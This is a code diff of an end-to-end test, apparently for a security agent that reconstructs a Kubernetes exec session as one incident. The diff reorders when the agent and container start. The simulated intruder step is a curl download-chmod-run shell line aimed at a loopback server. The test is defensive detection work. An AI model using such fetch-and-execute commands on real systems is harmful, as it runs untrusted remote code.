@@ -150,12 +150,8 @@ describe('an exec session told as one incident: audit + syscall, end to end', { 
         pod: { name: podName, namespace, uid: who.podUid },
       }],
     }));
-    agent = await startAgent([
-      '--metadata', metadata,
-      '--option', `agent.analyzer.url=${serve.url}`,
-      '--option', 'agent.analyzer.token_env=TIERCEL_E2E_AGENT_TOKEN',
-    ], { TIERCEL_E2E_AGENT_TOKEN: agentToken });
-
+    // The pod is running before the agent starts (its pid 1 is in the agent's /proc scan, as on a
+    // node where pods run before the DaemonSet's pod): the session is the only activity in it.
     container = await startContainer('e2e', who, {
       cgroupRoot: cgroupMounts().v2!,
       rel: (uid, id) => `kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod${uid.replace(/-/g, '_')}.slice/cri-containerd-${id}.scope`,
@@ -163,6 +159,12 @@ describe('an exec session told as one incident: audit + syscall, end to end', { 
       tmp,
       overlay: true,
     });
+
+    agent = await startAgent([
+      '--metadata', metadata,
+      '--option', `agent.analyzer.url=${serve.url}`,
+      '--option', 'agent.analyzer.token_env=TIERCEL_E2E_AGENT_TOKEN',
+    ], { TIERCEL_E2E_AGENT_TOKEN: agentToken });
 
     // What the intruder downloads: a small program, served on loopback.
     files = createServer((req, res) => {
@@ -193,10 +195,9 @@ describe('an exec session told as one incident: audit + syscall, end to end', { 
     const port = (files!.address() as AddressInfo).port;
     const tool = join(container!.overlay!.merged, `tool-${runId}`);
     const script = `curl -sS -o ${tool} http://127.0.0.1:${port}/tool && chmod +x ${tool} && ${tool}`;
-    const r = await ctrExec(container!, ['/bin/sh', '-c', script], {
-      tty: true,
-      env: { ...process.env, KUBERNETES_EXEC_AUDIT_ID: auditId },
-    });
+    // The variable is set in the container only, as the kubelet sets it on the exec'd process
+    // (env execs the shell in place: the session root stays the runtime shim's child).
+    const r = await ctrExec(container!, ['/usr/bin/env', `KUBERNETES_EXEC_AUDIT_ID=${auditId}`, '/bin/sh', '-c', script], { tty: true });
     assert.equal(r.code, 0, `the session failed: ${r.stderr}${r.stdout}`);
     assert.match(r.stdout, /tool ran/);
 
